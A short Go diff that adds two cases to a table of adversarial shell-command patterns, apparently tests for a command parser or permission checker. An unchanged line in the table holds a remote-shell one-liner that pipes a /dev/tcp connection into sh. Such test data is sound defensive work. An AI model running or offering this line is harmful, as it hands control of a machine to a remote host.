@@ -105,6 +105,8 @@ func adversarial() []pattern {
 		{"one descriptor again", "", "exec 3<>/dev/tcp/a/1;cat <&3|sh;", "", false},
 		{"groups of a regular expression", "find . -regex '", "(a|", "'", false},
 		{"function prefix", "", "function f { ", "", false},
+		{"unknown words behind a wrapper", "env ", "$X ", "npm i", false},
+		{"wrappers of unknown words", "", "env $X sudo $Y ", "npm i", false},
 		{"parted brackets", "echo \"", "(\t(", "\"; ((a); (b)); npm i", false},
 	}
 }
